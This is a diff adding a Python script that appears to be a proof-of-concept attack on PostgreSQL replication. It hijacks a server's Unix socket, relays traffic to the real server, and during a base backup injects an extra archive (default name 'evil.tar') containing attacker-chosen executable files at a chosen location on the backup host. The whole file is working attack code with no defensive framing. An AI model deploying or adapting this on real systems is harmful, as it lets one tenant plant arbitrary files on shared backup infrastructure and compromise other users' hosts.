@@ -1,0 +1,111 @@
+"""A tenant's own program in the place of its server's socket: hands all on to the server, and adds an archive of its
+choosing to each base backup. https://www.postgresql.org/docs/18/protocol-replication.html
+
+relay.py PLAN: a JSON file, {"location": "/where", "files": {"a/b": "content"}}; folders are made on the way.
+"""
+
+import io
+import json
+import os
+import socket
+import struct
+import sys
+import tarfile
+import threading
+
+LISTEN = "/var/lib/postgresql/.sockets/.s.PGSQL.5432"
+SERVER = "/var/lib/postgresql/.real/.s.PGSQL.5432"
+
+
+def archive(plan):
+    out = io.BytesIO()
+    # pg_basebackup makes no folder that is there.
+    made = {"tenant-mallory"}
+    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
+        for path, content in plan["files"].items():
+            parts = path.split("/")[:-1]
+            for depth in range(1, len(parts) + 1):
+                folder = "/".join(parts[:depth])
+                if folder not in made:
+                    made.add(folder)
+                    member = tarfile.TarInfo(folder)
+                    member.type, member.mode = tarfile.DIRTYPE, 0o755
+                    tar.addfile(member)
+            member = tarfile.TarInfo(path)
+            member.size, member.mode = len(content), 0o755
+            tar.addfile(member, io.BytesIO(content.encode()))
+    return out.getvalue()
+
+
+def copy_data(payload):
+    return b"d" + struct.pack("!I", len(payload) + 4) + payload
+
+
+def injected():
+    with open(sys.argv[1]) as file:
+        plan = json.load(file)
+    name = plan.get("archive", "evil.tar").encode()
+    content = archive(plan)
+    chunks = [content[at : at + 8192] for at in range(0, len(content), 8192)]
+    yield copy_data(b"n" + name + b"\0" + plan["location"].encode() + b"\0")
+    for chunk in chunks:
+        yield copy_data(b"d" + chunk)
+
+
+def read_exactly(connection, count):
+    content = b""
+    while len(content) < count:
+        part = connection.recv(count - len(content))
+        if not part:
+            raise EOFError
+        content += part
+    return content
+
+
+def answers(server, client):
+    try:
+        while True:
+            head = read_exactly(server, 5)
+            body = read_exactly(server, struct.unpack("!I", head[1:])[0] - 4)
+            if head[:1] == b"d" and body.startswith(b"nbase.tar\0"):
+                for message in injected():
+                    client.sendall(message)
+            client.sendall(head + body)
+    except (EOFError, OSError):
+        pass
+    finally:
+        client.close()
+        server.close()
+
+
+def serve(client):
+    server = socket.socket(socket.AF_UNIX)
+    server.connect(SERVER)
+    threading.Thread(target=answers, args=(server, client), daemon=True).start()
+    try:
+        while True:
+            content = client.recv(65536)
+            if not content:
+                break
+            server.sendall(content)
+    except OSError:
+        pass
+    finally:
+        try:
+            server.shutdown(socket.SHUT_RDWR)
+        except OSError:
+            pass
+
+
+def main():
+    if os.path.exists(LISTEN):
+        os.unlink(LISTEN)
+    listener = socket.socket(socket.AF_UNIX)
+    listener.bind(LISTEN)
+    listener.listen(64)
+    while True:
+        client, _ = listener.accept()
+        threading.Thread(target=serve, args=(client,), daemon=True).start()
+
+
+main()
